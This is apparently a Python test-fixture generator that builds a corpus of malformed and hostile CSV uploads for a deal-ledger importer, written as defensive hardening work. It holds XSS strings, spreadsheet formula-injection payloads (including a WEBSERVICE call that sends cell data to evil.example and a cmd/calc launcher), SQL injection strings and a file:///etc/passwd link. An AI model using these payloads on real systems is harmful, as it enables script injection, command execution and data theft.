"""The hostile-input corpus: broken, odd and malicious files an analyst (or an attacker) might upload.

Run `python tests/hostile/make_corpus.py` to (re)create the committed files next to this script.
Generation is deterministic (fixed seeds, fixed ZIP timestamps): running it again gives the same bytes,
and tests/test_hostile_inputs.py checks that every committed file matches its builder here.

Some inputs are too big to commit and are built at test time instead (see `GENERATED_AT_TEST_TIME`):
a 1 MB single field (in a ledger CSV and in a SIPRI export), a 10,000-column header and one that
repeats a column to 10,000 columns, a file over the 50 MB upload limit, a million blank lines and SIPRI
preambles with a 160 KB "Data generated" line.

Every file describes the same small deal (`hostile-test-deal`, three events, three sources) and
breaks one thing; tests/test_hostile_inputs.py pairs each file with its exact expected outcome.
"""

from __future__ import annotations

import csv
import gzip
import io
import random
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent

COLUMNS: tuple[str, ...] = (
    "deal_id", "deal_title", "date", "stage", "summary", "buyer", "seller", "category", "quantity",
    "value_low", "value_high", "currency", "source_title", "source_publisher", "source_url", "source_date",
    "reliability", "credibility", "note",
)  # fmt: skip
PARTY_COLUMNS: tuple[str, ...] = ("party", "party_role", "party_kind", "party_country", "party_parent")
# Free-text columns: what an attacker controls without tripping a vocabulary or format check.
TEXT_COLUMNS: tuple[str, ...] = (
    "deal_title", "summary", "category", "source_title", "source_publisher", "note", "deal_summary", "tags",
    "topic", "party",
)  # fmt: skip

BASE_ROWS: tuple[dict[str, str], ...] = (
    {"deal_id": "hostile-test-deal", "deal_title": "Hostile test deal", "date": "2025-03-01",
     "stage": "announced", "summary": "Poland announces it will buy trainer aircraft from Italy.",
     "buyer": "Poland", "seller": "Italy",
     "category": "aircraft", "quantity": "12", "value_low": "300m", "value_high": "400m", "currency": "EUR",
     "source_title": "Poland to buy trainers", "source_publisher": "Defense Daily",
     "source_url": "https://example.org/news/1", "source_date": "2025-03-02", "reliability": "B",
     "credibility": "3", "note": ""},
    {"deal_id": "hostile-test-deal", "deal_title": "", "date": "2025-05-10", "stage": "negotiating",
     "summary": "Talks on the trainer contract begin in Rome.", "buyer": "", "seller": "", "category": "",
     "quantity": "", "value_low": "", "value_high": "", "currency": "", "source_title": "Trainer talks open",
     "source_publisher": "Wire Service", "source_url": "https://example.org/news/2",
     "source_date": "2025-05-11", "reliability": "C", "credibility": "3", "note": ""},
    {"deal_id": "hostile-test-deal", "deal_title": "", "date": "2025-09-30", "stage": "contracted",
     "summary": "The trainer contract is signed.", "buyer": "", "seller": "", "category": "", "quantity": "",
     "value_low": "", "value_high": "", "currency": "", "source_title": "Contract signed",
     "source_publisher": "Ministry of National Defence", "source_url": "https://example.org/news/3",
     "source_date": "2025-09-30", "reliability": "A", "credibility": "2", "note": ""},
)  # fmt: skip

SEED_FILE = HERE.parent.parent / "data" / "seed" / "us-ukraine-drone-deal.csv"


def rows(**changes: dict[str, str]) -> list[dict[str, str]]:
    """The base rows, with row N (1-based, as `r1`, `r2`, `r3`) changed."""
    out = [dict(r) for r in BASE_ROWS]
    for key, cells in changes.items():
        out[int(key[1:]) - 1].update(cells)
    return out


def to_csv(
    records: list[dict[str, str]],
    columns: tuple[str, ...] = COLUMNS,
    *,
    delimiter: str = ",",
    newline: str = "\n",
    quoting: int = csv.QUOTE_MINIMAL,
) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=newline, quoting=quoting)
    writer.writerow(columns)
    for record in records:
        writer.writerow([record.get(c, "") for c in columns])
    return buffer.getvalue()


def utf8(text: str) -> bytes:
    return text.encode("utf-8")


def base_text() -> str:
    return to_csv(rows())


def replace_line(text: str, line: int, new: str) -> str:
    lines = text.split("\n")
    lines[line - 1] = new
    return "\n".join(lines)


def with_header(text: str, names: list[str]) -> str:
    """`text` with its first line replaced by `names`."""
    return ",".join(names) + "\n" + text.split("\n", 1)[1]


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            info = zipfile.ZipInfo(name, date_time=(2025, 1, 1, 0, 0, 0))
            archive.writestr(info, content)
    return buffer.getvalue()


def _xlsx_like() -> bytes:
    """The members of a minimal XLSX workbook (what Excel writes when 'Save as' is skipped)."""
    return _zip(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
            b'package/2006/content-types"/>',
            "xl/workbook.xml": b"<workbook/>",
            "xl/worksheets/sheet1.xml": b"<worksheet><sheetData/></worksheet>",
        }
    )


def _party_rows(**cells: str) -> list[dict[str, str]]:
    out = rows()
    out[0].update(cells)
    return out


def _html_payloads() -> list[dict[str, str]]:
    payloads = [
        '<script>alert("x")</script>',
        "<img src=x onerror=alert(1)>",
        '"><svg onload=alert(1)>',
        '<a href="javascript:alert(1)">click</a>',
        "<iframe src=//evil.example></iframe>",
        "{{7*7}} ${7*7} <%= 7*7 %>",
        "</td></tr></table><b>broken layout</b>",
        "<style>*{display:none}</style>",
        "&lt;script&gt; &amp; &#x3C;",
        "<!-- comment --><marquee>x</marquee>",
    ]
    out = rows()
    for record in out:
        record.update(
            {"deal_summary": "", "tags": "", "topic": "", "party": "", "party_role": "", "party_kind": ""}
        )
    for i, column in enumerate(TEXT_COLUMNS):
        record = out[i % 3]
        if column == "deal_title" and i % 3:
            continue
        record[column] = payloads[i % len(payloads)]
    out[0]["deal_title"] = '<script>alert("title")</script>'
    out[1]["party"], out[1]["party_role"], out[1]["party_kind"] = (
        '<b onmouseover="alert(1)">Minister</b>',
        "official",
        "person",
    )
    out[0]["party"], out[0]["party_role"], out[0]["party_kind"] = "", "", ""
    out[2]["tags"] = "<script>;<b>bold</b>"
    return out


FORMULAS = (
    '=HYPERLINK("http://evil.example","click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
)


def _formula_payloads() -> list[dict[str, str]]:
    out = rows()
    out[0].update(deal_title=FORMULAS[0], summary=FORMULAS[1], note=FORMULAS[2], category=FORMULAS[3])
    out[1].update(
        summary=FORMULAS[4], source_title=FORMULAS[3], source_publisher=FORMULAS[1], note=FORMULAS[5]
    )
    out[2].update(
        summary="@cmd",
        note=FORMULAS[0],
        source_title='=WEBSERVICE("http://evil.example/?"&A1)',
        source_publisher=FORMULAS[6],
    )
    return out


def _long_rows(column: str, length: int, char: str = "x") -> list[dict[str, str]]:
    out = rows()
    out[0][column] = char * length
    return out


def _many_problem_rows() -> str:
    out = []
    for i in range(250):
        record = dict(BASE_ROWS[1])
        record.update(
            date=f"2025-0{1 + i % 9}-1{i % 10}",
            summary=f"Event number {i}.",
            stage="rumoured",
            source_url=f"https://example.org/many/{i}",
        )
        out.append(record)
    out[0]["deal_title"] = "Many problems"
    return to_csv(out)


# --- the committed corpus: name -> (what it is, builder) ----------------------------------------------

CORPUS: dict[str, tuple[str, Callable[[], bytes]]] = {
    # File level
    "empty.csv": ("a zero-byte file", lambda: b""),
    "whitespace_only.csv": ("only spaces and blank lines", lambda: b"  \n\n\t\n  "),
    "header_only.csv": ("the header and nothing else", lambda: utf8(to_csv([]))),
    "header_only_blank_lines.csv": (
        "the header followed by blank lines",
        lambda: utf8(to_csv([]) + "\n\n,,,\n"),
    ),
    "preamble_line.csv": (
        "an 'Exported from' line before the header",
        lambda: utf8("Exported from DealBase on 2025-10-01\n" + base_text()),
    ),
    "excel_sep_line.csv": ("Excel's 'sep=;' hint line first", lambda: utf8("sep=,\n" + base_text())),
    # Header problems
    "missing_deal_id.csv": (
        "no deal_id column",
        lambda: utf8(to_csv(rows(), tuple(c for c in COLUMNS if c != "deal_id"))),
    ),
    "missing_required_columns.csv": (
        "only buyer and seller columns",
        lambda: utf8(to_csv(rows(), ("buyer", "seller"))),
    ),
    "missing_source_columns.csv": (
        "no source_title and no source_url",
        lambda: utf8(to_csv(rows(), tuple(c for c in COLUMNS if c not in ("source_title", "source_url")))),
    ),
    "unknown_column.csv": (
        "an extra column the ledger does not know",
        lambda: utf8(to_csv(rows(r1={"colour": "red"}), COLUMNS + ("colour",))),
    ),
    "misspelled_column.csv": (
        "'sumary' instead of 'summary'",
        lambda: utf8(to_csv(rows(), COLUMNS).replace("summary", "sumary", 1)),
    ),
    "blank_header_cell.csv": (
        "a trailing comma in the header (a blank column name)",
        lambda: utf8(to_csv(rows(), COLUMNS + ("",))),
    ),
    "duplicate_header.csv": ("summary twice", lambda: utf8(to_csv(rows(), COLUMNS + ("summary",)))),
    "duplicate_header_case.csv": (
        "'Summary' and 'summary'",
        lambda: utf8(to_csv(rows(), COLUMNS + ("Summary ",))),
    ),
    "header_spaces_and_case.csv": (
        "'Deal ID', 'Deal Title' etc.: normalised",
        lambda: utf8(with_header(base_text(), [c.replace("_", " ").title() for c in COLUMNS])),
    ),
    "header_zero_width.csv": (
        "zero-width spaces inside header names",
        lambda: utf8(with_header(base_text(), ["\u200b" + c + "\u200d" for c in COLUMNS])),
    ),
    # Delimiters and line endings
    "semicolon_delimiter.csv": (
        "semicolon-delimited (European Excel)",
        lambda: utf8(to_csv(rows(), delimiter=";")),
    ),
    "tab_delimiter.csv": ("tab-delimited", lambda: utf8(to_csv(rows(), delimiter="\t"))),
    "pipe_delimiter.csv": (
        "pipe-delimited: not a supported delimiter",
        lambda: utf8(to_csv(rows(), delimiter="|")),
    ),
    "mixed_delimiters.csv": (
        "comma header, semicolon rows",
        lambda: utf8(to_csv([]) + to_csv(rows(), delimiter=";").split("\n", 1)[1]),
    ),
    "crlf_line_endings.csv": ("Windows line endings", lambda: utf8(to_csv(rows(), newline="\r\n"))),
    "cr_line_endings.csv": ("old Mac line endings (CR only)", lambda: utf8(to_csv(rows(), newline="\r"))),
    "no_final_newline.csv": ("no newline at the end", lambda: utf8(base_text().rstrip("\n"))),
    "blank_lines_between.csv": (
        "blank lines between records",
        lambda: utf8(base_text().replace("\n", "\n\n")),
    ),
    "excel_empty_rows.csv": (
        "rows of empty cells at the end, as spreadsheet exports leave them",
        lambda: utf8(base_text() + ("," * (len(COLUMNS) - 1) + "\n") * 3),
    ),
    "all_quoted.csv": ("every field quoted", lambda: utf8(to_csv(rows(), quoting=csv.QUOTE_ALL))),
    # Encodings
    "utf8_bom.csv": (
        "UTF-8 with a byte-order mark",
        lambda: (
            b"\xef\xbb\xbf"
            + utf8(to_csv(rows(r1={"summary": "Poland’s MoD announces the purchase – “trainers”."})))
        ),
    ),
    "utf8_bom_semicolon.csv": (
        "what Excel (European locale) writes: BOM and semicolons",
        lambda: b"\xef\xbb\xbf" + utf8(to_csv(rows(), delimiter=";", newline="\r\n")),
    ),
    "utf16_le_bom.csv": (
        "UTF-16 little-endian with BOM (Excel 'Unicode text')",
        lambda: to_csv(
            rows(r1={"summary": "Zürich brokers the deal; 1 000 € per unit."}), delimiter="\t"
        ).encode("utf-16"),
    ),
    "utf16_be_bom.csv": (
        "UTF-16 big-endian with BOM",
        lambda: b"\xfe\xff" + to_csv(rows()).encode("utf-16-be"),
    ),
    "utf16_no_bom.csv": (
        "UTF-16 without a BOM (looks like NUL bytes)",
        lambda: to_csv(rows()).encode("utf-16-le"),
    ),
    "utf16_odd_length.csv": ("UTF-16 cut mid-character", lambda: to_csv(rows()).encode("utf-16")[:-1]),
    "utf16_nul_char.csv": (
        "UTF-16 holding a U+0000 character in a summary",
        lambda: to_csv(rows(r2={"summary": "Talks\x00begin."})).encode("utf-16"),
    ),
    "latin1.csv": (
        "Latin-1 text (accents, no cp1252-only characters)",
        lambda: to_csv(
            rows(
                r1={"summary": "Le ministère annonce l'achat; coût élevé."},
                r2={"source_publisher": "Défense & Sécurité"},
            )
        ).encode("latin-1"),
    ),
    "cp1252.csv": (
        "Windows-1252 text with curly quotes, dashes and the euro sign",
        lambda: to_csv(rows(r1={"summary": "“Trainers” for Poland – worth €300m…"})).encode("cp1252"),
    ),
    "mixed_utf8_cp1252.csv": (
        "UTF-8 file with one line pasted in as Windows-1252",
        lambda: utf8(to_csv(rows(r1={"summary": "Zürich"}))).replace(
            b"Talks on", "“Talks” on".encode("cp1252")
        ),
    ),
    "invalid_byte.csv": (
        "a byte undefined in both UTF-8 and Windows-1252 (0x81)",
        lambda: utf8(base_text()).replace(b"Talks on", b"Talks\x81on"),
    ),
    "truncated_utf8.csv": (
        "a UTF-8 character cut in half",
        lambda: utf8(to_csv(rows(r1={"summary": "Łódź plant"}))).replace(b"Talks", b"T\xc5alks"),
    ),
    "overlong_utf8.csv": (
        "an overlong UTF-8 encoding of '/' (C0 AF), a classic filter bypass",
        lambda: utf8(base_text()).replace(b"news/2", b"news\xc0\xaf2"),
    ),
    "surrogate_utf8.csv": (
        "an encoded UTF-16 surrogate (ED A0 80): invalid UTF-8",
        lambda: utf8(to_csv(rows(r1={"summary": "Kraków"}))).replace(b"Rome", b"Ro\xed\xa0\x80me"),
    ),
    "nul_bytes.csv": ("NUL bytes in a row", lambda: utf8(base_text()).replace(b"Rome", b"Ro\x00\x00me")),
    # Binary files renamed .csv
    "random_binary.csv": ("4 KB of random bytes", lambda: random.Random(20251125).randbytes(4096)),
    "random_high_bytes.csv": (
        "random bytes without NUL or line breaks",
        lambda: bytes(b for b in random.Random(7).randbytes(6000) if b > 0x7F),
    ),
    "xlsx_renamed.csv": ("an XLSX workbook renamed .csv", _xlsx_like),
    "zip_renamed.csv": ("a ZIP archive holding the CSV", lambda: _zip({"deals.csv": utf8(base_text())})),
    "xls_renamed.csv": ("an old Excel (OLE2) file", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)),
    "pdf_renamed.csv": (
        "a PDF",
        lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
    ),
    "png_renamed.csv": ("a PNG image", lambda: b"\x89PNG\r\n\x1a\n" + bytes(64)),
    "gzip_renamed.csv": ("a gzipped CSV", lambda: gzip.compress(utf8(base_text()), mtime=0)),
    "sqlite_renamed.csv": ("a SQLite database", lambda: b"SQLite format 3\x00" + bytes(1008)),
    # Quoting and record structure
    "unterminated_quote.csv": (
        "a quoted summary never closed",
        lambda: utf8(
            replace_line(base_text(), 3, base_text().split("\n")[2].replace("Talks on", '"Talks on', 1))
        ),
    ),
    "quote_inside_field.csv": (
        'text after a closing quote: "Talks" on ...',
        lambda: utf8(
            replace_line(
                base_text(),
                3,
                base_text()
                .split("\n")[2]
                .replace("Talks on the trainer contract begin in Rome.", '"Talks" on the contract', 1),
            )
        ),
    ),
    "record_broken_across_lines.csv": (
        "an unquoted line break in a summary",
        lambda: utf8(base_text().replace("Talks on the trainer", "Talks on the\ntrainer")),
    ),
    "quoted_line_break_summary.csv": (
        "a quoted line break in a summary (allowed)",
        lambda: utf8(to_csv(rows(r2={"summary": "Talks begin.\nThey last a week."}))),
    ),
    "quoted_line_break_title.csv": (
        "a quoted line break in the deal title (not allowed)",
        lambda: utf8(to_csv(rows(r1={"deal_title": "Hostile\ntest deal"}))),
    ),
    "too_many_fields.csv": (
        "an unquoted comma in a summary",
        lambda: utf8(base_text().replace("Talks on the trainer", "Talks, on the trainer")),
    ),
    "too_few_fields.csv": (
        "a row missing its last cells",
        lambda: utf8(replace_line(base_text(), 4, ",".join(base_text().split("\n")[3].split(",")[:5]))),
    ),
    "trailing_delimiters.csv": (
        "every row (not the header) ends with an extra comma",
        lambda: utf8(base_text().replace(",\n", ",,\n")),
    ),
    # Duplicates and conflicts
    "duplicate_rows.csv": ("the same row twice", lambda: utf8(to_csv(rows() + [dict(BASE_ROWS[1])]))),
    "same_event_two_sources.csv": (
        "one event told by two sources",
        lambda: utf8(
            to_csv(
                rows()
                + [
                    dict(
                        BASE_ROWS[1],
                        deal_title="",
                        source_title="Second",
                        source_publisher="Other Wire",
                        source_url="https://example.org/other/2",
                    )
                ]
            )
        ),
    ),
    "same_event_conflicting_values.csv": (
        "the same event twice with different values",
        lambda: utf8(
            to_csv(
                rows()
                + [dict(BASE_ROWS[0], deal_title="", value_high="500m", source_url="https://example.org/o")]
            )
        ),
    ),
    "same_source_two_grades.csv": (
        "one source graded B and D on two rows",
        lambda: utf8(to_csv(rows(r2={"source_url": "https://example.org/news/1", "reliability": "D"}))),
    ),
    "seed_grade_conflict.csv": (
        "a source the seed grades B, graded E here",
        lambda: utf8(
            to_csv(
                rows(
                    r3={
                        "source_url": "https://en.interfax.com.ua/news/general/1090715.html",
                        "reliability": "E",
                    }
                )
            )
        ),
    ),
    "seed_file_again.csv": ("the seed file, imported again: nothing new", lambda: SEED_FILE.read_bytes()),
    # Vocabulary and reference values
    "unknown_stage.csv": ("stage 'rumoured'", lambda: utf8(to_csv(rows(r2={"stage": "rumoured"})))),
    "misspelled_stage.csv": ("stage 'negociating'", lambda: utf8(to_csv(rows(r2={"stage": "negociating"})))),
    "unknown_country.csv": ("buyer 'Atlantis'", lambda: utf8(to_csv(rows(r1={"buyer": "Atlantis"})))),
    "ambiguous_country.csv": ("seller 'Congo'", lambda: utf8(to_csv(rows(r1={"seller": "Congo"})))),
    "ambiguous_country_korea.csv": ("buyer 'Korea'", lambda: utf8(to_csv(rows(r1={"buyer": "Korea"})))),
    "country_aliases.csv": (
        "countries as codes, aliases and a list",
        lambda: utf8(to_csv(rows(r1={"buyer": "POL; Czechia", "seller": "ITA"}))),
    ),
    "bad_reliability.csv": ("reliability 'G'", lambda: utf8(to_csv(rows(r2={"reliability": "G"})))),
    "bad_credibility.csv": (
        "credibility '9' and '0'",
        lambda: utf8(to_csv(rows(r2={"credibility": "9"}, r3={"credibility": "0"}))),
    ),
    "unknown_party_role.csv": (
        "party role 'mastermind'",
        lambda: utf8(
            to_csv(
                _party_rows(party="Jan Kowalski", party_role="mastermind", party_kind="person"),
                COLUMNS + PARTY_COLUMNS,
            )
        ),
    ),
    "party_without_role.csv": (
        "a party with no role",
        lambda: utf8(to_csv(_party_rows(party="Jan Kowalski", party_kind="person"), COLUMNS + PARTY_COLUMNS)),
    ),
    "party_unknown_parent.csv": (
        "a party whose parent is nowhere",
        lambda: utf8(
            to_csv(
                _party_rows(
                    party="Procurement Office",
                    party_role="buyer",
                    party_kind="agency",
                    party_parent="Nowhere Ministry",
                ),
                COLUMNS + PARTY_COLUMNS,
            )
        ),
    ),
    # Dates
    "impossible_date.csv": ("2025-02-30", lambda: utf8(to_csv(rows(r2={"date": "2025-02-30"})))),
    "ambiguous_date.csv": ("03/04/2025", lambda: utf8(to_csv(rows(r2={"date": "03/04/2025"})))),
    "far_future_date.csv": ("2999-01-01", lambda: utf8(to_csv(rows(r3={"date": "2999-01-01"})))),
    "ancient_date.csv": ("1850-06-01", lambda: utf8(to_csv(rows(r3={"date": "1850-06-01"})))),
    "unreadable_date.csv": ("'last Tuesday'", lambda: utf8(to_csv(rows(r2={"date": "last Tuesday"})))),
    "empty_date.csv": ("no date", lambda: utf8(to_csv(rows(r2={"date": ""})))),
    "future_source_date.csv": (
        "a source published in 2999",
        lambda: utf8(to_csv(rows(r1={"source_date": "2999-12-31"}))),
    ),
    "reversed_date_range.csv": (
        "a range that ends before it starts",
        lambda: utf8(to_csv(rows(r2={"date": "2025-05-10/2025-05-01"}))),
    ),
    # Numbers and money
    "negative_value.csv": ("value_low -300m", lambda: utf8(to_csv(rows(r1={"value_low": "-300m"})))),
    "non_numeric_value.csv": ("value_high 'a lot'", lambda: utf8(to_csv(rows(r1={"value_high": "a lot"})))),
    "value_with_commas.csv": (
        "value_low 300,000,000",
        lambda: utf8(to_csv(rows(r1={"value_low": "300,000,000"}))),
    ),
    "value_low_above_high.csv": (
        "value_low 500m > value_high 400m",
        lambda: utf8(to_csv(rows(r1={"value_low": "500m"}))),
    ),
    "value_overflow.csv": (
        "a value of 10^400 (infinite as a float)",
        lambda: utf8(to_csv(rows(r1={"value_low": "1" + "0" * 400, "value_high": ""}))),
    ),
    "negative_quantity.csv": ("quantity -12", lambda: utf8(to_csv(rows(r1={"quantity": "-12"})))),
    "non_numeric_quantity.csv": (
        "quantity 'twelve' and '1.5'",
        lambda: utf8(to_csv(rows(r1={"quantity": "twelve"}, r2={"quantity": "1.5"}))),
    ),
    "quantity_overflow.csv": (
        "quantity 99999999999999999999 (beyond 64-bit integers)",
        lambda: utf8(to_csv(rows(r1={"quantity": "9" * 20}))),
    ),
    "quantity_over_int32.csv": (
        "quantity 3000000000 (beyond a PostgreSQL integer)",
        lambda: utf8(to_csv(rows(r1={"quantity": "3000000000"}))),
    ),
    "unknown_currency.csv": ("currency 'XYZ'", lambda: utf8(to_csv(rows(r1={"currency": "XYZ"})))),
    "currency_symbol.csv": ("currency '$'", lambda: utf8(to_csv(rows(r1={"currency": "$"})))),
    "value_without_currency.csv": (
        "a value but no currency",
        lambda: utf8(to_csv(rows(r1={"currency": ""}))),
    ),
    # URLs
    "javascript_url.csv": (
        "javascript: link",
        lambda: utf8(to_csv(rows(r2={"source_url": "javascript:alert(1)"}))),
    ),
    "javascript_url_obfuscated.csv": (
        "JaVaScRiPt: link with a leading space and tab",
        lambda: utf8(to_csv(rows(r2={"source_url": " \tJaVaScRiPt:alert(1)"}))),
    ),
    "data_url.csv": (
        "data: link",
        lambda: utf8(
            to_csv(rows(r2={"source_url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="}))
        ),
    ),
    "file_url.csv": ("file: link", lambda: utf8(to_csv(rows(r3={"source_url": "file:///etc/passwd"})))),
    "url_without_host.csv": (
        "http:// with no host",
        lambda: utf8(to_csv(rows(r3={"source_url": "https:///path"}))),
    ),
    "url_with_spaces.csv": (
        "a link with spaces",
        lambda: utf8(to_csv(rows(r3={"source_url": "https://example.org/a b"}))),
    ),
    # Identifiers and required cells
    "bad_deal_id.csv": (
        "deal_id with spaces and punctuation",
        lambda: utf8(to_csv(rows(r2={"deal_id": "Bad Deal!"}))),
    ),
    "formula_deal_id.csv": ("deal_id '=1+1'", lambda: utf8(to_csv(rows(r3={"deal_id": "=1+1"})))),
    "empty_required_cells.csv": (
        "empty deal_id and summary",
        lambda: utf8(to_csv(rows(r2={"deal_id": ""}, r3={"summary": "   "}))),
    ),
    "new_deal_without_title.csv": (
        "a new deal with no title on any row",
        lambda: utf8(to_csv(rows(r1={"deal_title": ""}))),
    ),
    "row_without_source.csv": (
        "a row with no source title or URL",
        lambda: utf8(to_csv(rows(r3={"source_title": "", "source_url": ""}))),
    ),
    "many_problems.csv": (
        "250 rows with an unknown stage: the list is capped",
        lambda: utf8(_many_problem_rows()),
    ),
    # Payloads: accepted as text, neutralised on output
    "html_script_payloads.csv": (
        "HTML/script payloads in every free-text column",
        lambda: utf8(to_csv(_html_payloads(), COLUMNS + ("deal_summary", "tags", "topic") + PARTY_COLUMNS)),
    ),
    "formula_payloads.csv": (
        "spreadsheet formula payloads (=, +, -, @, tab, CR)",
        lambda: utf8(to_csv(_formula_payloads(), newline="\r\n")),
    ),  # CRLF: CR cells get quoted
    "sql_injection_text.csv": (
        "SQL injection strings as text",
        lambda: utf8(
            to_csv(
                rows(
                    r1={
                        "summary": "x'); DROP TABLE events; --",
                        "deal_title": "Robert'); DROP TABLE deals;--",
                    },
                    r2={"source_publisher": "' OR '1'='1"},
                )
            )
        ),
    ),
    "control_characters.csv": (
        "a bell and an ANSI escape sequence",
        lambda: utf8(
            to_csv(rows(r1={"deal_title": "Deal\x1b[31mRED\x1b[0m"}, r2={"summary": "Talks\x07begin."}))
        ),
    ),
    "rtl_and_zero_width.csv": (
        "Arabic, Hebrew, a right-to-left override and zero-width characters",
        lambda: utf8(
            to_csv(
                rows(
                    r1={
                        "summary": "صفقة طائرات تدريب \u202eevil.exe\u202c",
                        "deal_id": "hostile\u200b-test\u200d-deal",
                    },
                    r2={
                        "summary": "עסקה \u200fחדשה\u200e \u2066isolated\u2069",
                        "source_publisher": "Wire\u2060 Service",
                    },
                )
            )
        ),
    ),
    "emoji.csv": (
        "emoji in text",
        lambda: utf8(
            to_csv(rows(r1={"summary": "Deal 🚀✈️ signed 👍🏽 🇵🇱🇮🇹"}, r2={"source_publisher": "📰 Wire"}))
        ),
    ),
    "emoji_deal_id.csv": (
        "emoji in the deal id",
        lambda: utf8(to_csv(rows(r2={"deal_id": "hostile-test-deal-🚀"}))),
    ),
    "nfd_text.csv": (
        "decomposed (NFD) accents: normalised",
        lambda: utf8(
            to_csv(rows(r1={"buyer": "Co\u0302te d\u2019Ivoire", "summary": "Se\u0301gou\u0301 signs."}))
        ),
    ),
    "long_title.csv": ("a 301-character deal title", lambda: utf8(to_csv(_long_rows("deal_title", 301)))),
    "long_summary.csv": ("a 5,001-character summary", lambda: utf8(to_csv(_long_rows("summary", 5001)))),
    "max_length_summary.csv": (
        "a summary of exactly 5,000 characters (allowed)",
        lambda: utf8(to_csv(_long_rows("summary", 5000))),
    ),
    "long_party_casefold.csv": (
        "a 300-character party name that case-folds to 600 characters ('ß')",
        lambda: utf8(
            to_csv(
                _party_rows(
                    party="ß" * 300, party_role="negotiator", party_kind="person", party_country="POL"
                ),
                COLUMNS + PARTY_COLUMNS,
            )
        ),
    ),
    "long_url_casefold.csv": (
        "a 2,000-character URL whose lower case is twice as long ('İ')",
        lambda: utf8(to_csv(rows(r2={"source_url": "https://example.org/" + "İ" * 1980}))),
    ),
    # Hardening (issue 14): shapes that cost time or memory, and text Streamlit would turn into links.
    "blank_cell_rows_between.csv": (
        "rows of blank cells and of spaces between the records",
        lambda: utf8(
            ("," * (len(COLUMNS) - 1) + "\n   \n \t , ,\n").join(base_text().splitlines(keepends=True))
        ),
    ),
    "autolink_text.csv": (
        "addresses, e-mail addresses and a logo shortcode in free text (GFM would make them links)",
        lambda: utf8(
            to_csv(
                rows(
                    r1={"summary": "Announced on www.evil.example and https://evil.example/x :streamlit:"},
                    r2={"note": "Write to press@evil.example or mailto:press@evil.example"},
                    r3={"source_title": "WWW.EVIL.EXAMPLE/contract"},
                )
            )
        ),
    ),
    "sipri_generated_line_padded.csv": (
        'a SIPRI export whose "Data generated" line a spreadsheet padded with 6,000 separators',
        lambda: sipri_export(" ;," * 2_000),
    ),
    "nul_in_multiline_summary.csv": (
        "a NUL byte on the second line of a quoted summary that spans two lines (line 4, record of line 3)",
        lambda: utf8(to_csv(rows(r2={"summary": "Talks on the trainer contract\nbegin in Ro\x00me."}))),
    ),
    "bidi_controls_summary.csv": (
        "every bidirectional control (embeddings, overrides, isolates, marks) in an ASCII summary",
        lambda: utf8(to_csv(rows(r1={"summary": BIDI_SUMMARY}))),
    ),
}

# A summary hiding a file name behind a right-to-left override, with every other bidirectional control.
BIDI_SUMMARY = (
    "Contract \u202aLRE\u202c \u202bRLE\u202c \u202dLRO\u202c signed: see \u202eexe.txt\u202c "
    "\u2066LRI\u2069 \u2067RLI\u2069 \u2068FSI\u2069 \u200eLRM \u200fRLM \u061cALM."
)


# --- built at test time (too big to commit) ---------------------------------------------------------


def big_field() -> bytes:
    """A single 1 MB field (a summary), beyond the CSV reader's 128 KB field limit."""
    return utf8(to_csv(rows(r2={"summary": "A" * 1_000_000})))


def one_column_ten_thousand_times() -> bytes:
    """The ledger header with its last column, note, repeated to 10,000 columns (the most that are read):
    note appears 9,982 times, and every row has 10,000 cells."""
    return utf8(to_csv(rows(), COLUMNS + ("note",) * (10_000 - len(COLUMNS))))


def sipri_big_comment() -> bytes:
    """A SIPRI export whose first record's Comments cell is 1 MB of text."""
    return sipri_export("").replace(b"Invented record,4.5", b"Invented " + b"x" * 1_000_000 + b",4.5", 1)


def ten_thousand_columns() -> bytes:
    """The ledger header plus 9,981 unknown columns: 10,000 in all."""
    extra = tuple(f"extra_{i}" for i in range(10_000 - len(COLUMNS)))
    return utf8(to_csv(rows(), COLUMNS + extra))


SIPRI_HEADER = (
    "Recipient,Supplier,Year of order, ,Number ordered, ,Weapon designation,Weapon description,"
    "Number delivered, ,Year(s) of delivery,status,Comments,SIPRI TIV per unit,SIPRI TIV for total order,"
    "SIPRI TIV of delivered weapons"
)


def sipri_export(padding: str, *, date: str = "13 Oct 2024 2:20:11 PM") -> bytes:
    """Two invented records in SIPRI's classic layout, after a preamble whose "Data generated:" line ends
    in `padding` (a date of `date`)."""
    return utf8(
        "Invented records in the layout of a SIPRI trade-register export (not SIPRI data).\n"
        f"Data generated: {date}{padding}\n"
        f"{SIPRI_HEADER}\n"
        "Peru,Chile,2020,,6,,TX-100 Hostiletest,trainer aircraft,6,,2021,New,Invented record,4.5,27,27\n"
        "Chile,Peru,2019,?,12,,TX-200 Hostileboat,patrol craft,9,?,2020; 2021,New,Invented record,2,24,18\n"
    )


def million_blank_lines() -> bytes:
    """The three records with a million blank lines after the first (they must never be held)."""
    text = base_text()
    first_end = text.index("\n", text.index("\n") + 1) + 1
    return utf8(text[:first_end] + "\n" * 1_000_000 + text[first_end:])


def over_upload_limit(limit: int = 50_000_000) -> bytes:
    """A valid-looking file one byte over `limit`."""
    head = utf8(base_text())
    return head + b"x" * (limit + 1 - len(head))


def bulk_ledger_csv(rows: int, *, prefix: str = "bulk", events_per_deal: int = 20) -> bytes:
    """A big, valid ledger CSV (not hostile): `rows` events of `rows // events_per_deal` new deals.

    Used by the SIGKILL and concurrency tests. Every row is a new event with its own source, so an
    import of it adds exactly `rows` events, and files with different prefixes share nothing.
    """
    columns = (
        "deal_id",
        "deal_title",
        "date",
        "stage",
        "summary",
        "buyer",
        "seller",
        "source_title",
        "source_url",
        "reliability",
        "credibility",
    )
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(columns)
    for i in range(rows):
        deal, first = i // events_per_deal, i % events_per_deal == 0
        writer.writerow(
            [
